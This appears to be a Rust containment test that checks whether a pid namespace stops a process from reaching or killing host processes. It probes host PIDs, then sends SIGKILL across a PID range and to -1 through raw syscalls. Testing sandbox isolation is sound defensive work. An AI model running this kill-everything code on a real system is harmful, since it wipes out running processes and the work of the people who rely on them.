//! attack = "kill every process that can be seen, and every number"
//! kind = "kill everything"
//! gets = ["exited 0", "signal 9"]
//! held_by = ["pid namespace"]

use foe::{Briefing, call, through};

pub fn main() {
    let briefing = Briefing::read();
    for process in briefing.all("process") {
        if call(62, &[process.parse().expect("a number"), 0]).is_ok() {
            through(format!("process {process} of the host is in reach"));
        }
    }
    for number in 2..2000 {
        if number != i64::from(std::process::id()) {
            let _ = call(62, &[number, 9]);
        }
    }
    let _ = call(62, &[-1, 9]);
}
